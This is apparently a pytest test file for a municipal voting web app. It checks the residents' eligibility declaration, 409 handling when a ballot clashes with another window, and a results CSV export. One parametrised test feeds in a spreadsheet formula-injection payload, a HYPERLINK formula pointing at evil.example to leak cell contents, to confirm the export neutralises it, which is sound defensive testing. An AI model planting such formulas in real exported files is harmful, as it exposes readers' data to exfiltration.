"""Hardening (issue 10): who may vote said plainly and the residents' declaration; a ballot that
clashes with another window answers 409, never 500; the results CSV through the one CSV writer."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm.exc import StaleDataError

from app.votes import services
from app.votes.models import Ballot, Eligibility, Vote
from app.votes.services import BallotError, cast_ballot, review_ballot
from tests.conftest import submit
from tests.votes.factories import close, project_ids


@pytest.fixture
def town(make_municipality):
    return make_municipality("Heimby")


def url(vote, suffix="", lang="en"):
    return f"/heimby/avstemninger/{vote.id}{suffix}?lang={lang}"


def post_ballot(client, vote, data):
    return submit(client, url(vote, "/stemme"), data, form_url=url(vote))


# --- who may vote -------------------------------------------------------------------------

def test_the_admin_form_says_what_each_eligibility_lets_in(client, auth, make_user, town):
    auth.login(make_user(role="admin", municipality=town))
    html = client.get("/heimby/admin/avstemninger/ny?lang=en").get_data(as_text=True)
    assert "from any municipality: Tinget does not check where voters live" in html
    assert 'value="resident"' in html and "Residents who declare that they live in the municipality" in html
    assert 'value="idporten"' in html


def test_the_admin_creates_a_residents_vote(db, client, auth, make_user, town):
    from tests.votes.test_admin import vote_form

    auth.login(make_user(role="admin", municipality=town))
    assert submit(client, "/heimby/admin/avstemninger/ny?lang=en",
                  vote_form(eligibility="resident")).status_code == 302
    assert db.session.scalar(select(Vote)).eligibility is Eligibility.resident


def test_the_admin_page_of_an_open_residents_vote_names_the_rule(client, auth, make_user, town,
                                                                 make_vote):
    vote = make_vote(town, eligibility=Eligibility.resident)
    auth.login(make_user(role="admin", municipality=town))
    html = client.get(f"/heimby/admin/avstemninger/{vote.id}?lang=en").get_data(as_text=True)
    assert "Residents of Heimby, by their own declaration" in html


def test_an_account_vote_says_that_anyone_can_vote(client, town, make_vote):
    vote = make_vote(town)
    html = client.get(url(vote)).get_data(as_text=True)
    assert "Anyone with a Tinget account can vote, also people who do not live in Heimby" in html
    assert 'name="lives_here"' not in html


def test_a_residents_vote_needs_the_declaration(db, client, auth, make_user, town, make_vote):
    vote = make_vote(town, eligibility=Eligibility.resident)
    ids = project_ids(vote, "Smart gatelys")
    auth.login(make_user("heim@example.no"))
    html = client.get(url(vote)).get_data(as_text=True)
    assert "Only residents of Heimby can vote" in html
    assert 'name="lives_here"' in html and "I live in Heimby" in html

    refused = post_ballot(client, vote, {"step": "review", "project": ids})
    assert refused.status_code == 200
    assert "Tick “I live in Heimby” to declare that you do" in refused.get_data(as_text=True)
    refused = post_ballot(client, vote, {"step": "confirm", "project": ids})
    assert "Tick “I live in Heimby”" in refused.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Ballot.id))) == 0

    summary = post_ballot(client, vote, {"step": "review", "project": ids, "lives_here": "y"})
    assert "You declare that you live in Heimby." in summary.get_data(as_text=True)
    assert summary.get_data(as_text=True).count('name="lives_here" value="y"') == 2
    cast = post_ballot(client, vote, {"step": "confirm", "project": ids, "lives_here": "y"})
    assert cast.status_code == 302
    assert db.session.scalar(select(func.count(Ballot.id))) == 1


def test_the_services_refuse_a_residents_ballot_without_the_declaration(db, town, make_user,
                                                                        make_vote):
    vote = make_vote(town, eligibility=Eligibility.resident)
    voter = make_user()
    ids = project_ids(vote, "Smart gatelys")
    for call in (review_ballot, cast_ballot):
        with pytest.raises(BallotError) as refused:
            call(vote, voter, ids)
        assert refused.value.field == "lives_here"
    assert cast_ballot(vote, voter, ids, lives_here=True).id
    # an account vote does not ask for it
    other = make_vote(town)
    assert cast_ballot(other, voter, project_ids(other, "Smart gatelys"))


# --- a ballot that clashes with another window ----------------------------------------------

def test_a_clash_is_tried_again_once(db, client, auth, make_user, town, make_vote, monkeypatch):
    vote = make_vote(town)
    auth.login(make_user())
    real, calls = services.cast_ballot, []

    def clash_once(*args, **kwargs):
        calls.append(1)
        if len(calls) == 1:
            raise StaleDataError("changed in another window")
        return real(*args, **kwargs)

    monkeypatch.setattr(services, "cast_ballot", clash_once)
    response = post_ballot(client, vote, {"step": "confirm",
                                          "project": project_ids(vote, "Smart gatelys")})
    assert response.status_code == 302 and len(calls) == 2
    assert db.session.scalar(select(func.count(Ballot.id))) == 1


@pytest.mark.parametrize("path, data", [
    ("/stemme", {"step": "confirm", "project": "__ids__"}), ("/trekk", {})])
def test_a_clash_twice_answers_409_with_the_ballot_as_it_is(db, client, auth, make_user, town,
                                                            make_vote, monkeypatch, path, data):
    vote = make_vote(town)
    voter = make_user()
    cast_ballot(vote, voter, project_ids(vote, "Luftsensorer"))
    db.session.commit()
    auth.login(voter)

    def clash(*args, **kwargs):
        raise services.BallotClash("the ballot kept changing")

    monkeypatch.setattr(services, "cast_ballot", clash)
    monkeypatch.setattr(services, "withdraw_ballot", clash)
    if data.get("project") == "__ids__":
        data = {**data, "project": project_ids(vote, "Smart gatelys")}
    response = submit(client, url(vote, path), data, form_url=url(vote))
    html = response.get_data(as_text=True)
    assert response.status_code == 409
    assert "Your vote was changed in another window at the same moment" in html
    assert "Luftsensorer" in html.split('id="your-ballot"')[1].split("</section>")[0]


def test_a_fault_that_is_no_clash_is_not_hidden(db, client, auth, make_user, town, make_vote,
                                                monkeypatch):
    from sqlalchemy.exc import ProgrammingError

    vote = make_vote(town)
    auth.login(make_user())
    app = client.application
    monkeypatch.setitem(app.config, "PROPAGATE_EXCEPTIONS", True)

    def broken(*args, **kwargs):
        raise ProgrammingError("SELECT", {}, Exception("syntax error"))

    monkeypatch.setattr(services, "cast_ballot", broken)
    with pytest.raises(ProgrammingError):
        post_ballot(client, vote, {"step": "confirm", "project": project_ids(vote, "Smart gatelys")})


# --- the results CSV ----------------------------------------------------------------------

@pytest.mark.parametrize("title", ["=HYPERLINK(\"https://evil.example/?d=\"&A1)", "+1+1",
                                   "-2+3", "@SUM(A1)", "\tTab", "\rCR"])
def test_the_results_csv_neutralises_formulas_and_names_its_charset_once(
        db, client, town, make_user, make_vote, title):
    vote = make_vote(town, method="single", projects=[(title, 100), ("Benk", 200)])
    cast_ballot(vote, make_user(), [vote.projects[0].id])
    db.session.commit()
    close(db, vote)
    response = client.get(url(vote, "/resultater.csv"))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline=""), delimiter=";"))
    # a title is shown trimmed (app.core.i18n.localized): a leading tab or CR never reaches the
    # file; whatever does start with a formula character is neutralised
    shown = title.strip()
    assert rows[1][:2] == ["1", "'" + shown if shown[0] in "=+-@" else shown]
    assert not rows[1][1].startswith(("=", "+", "-", "@", "\t", "\r"))
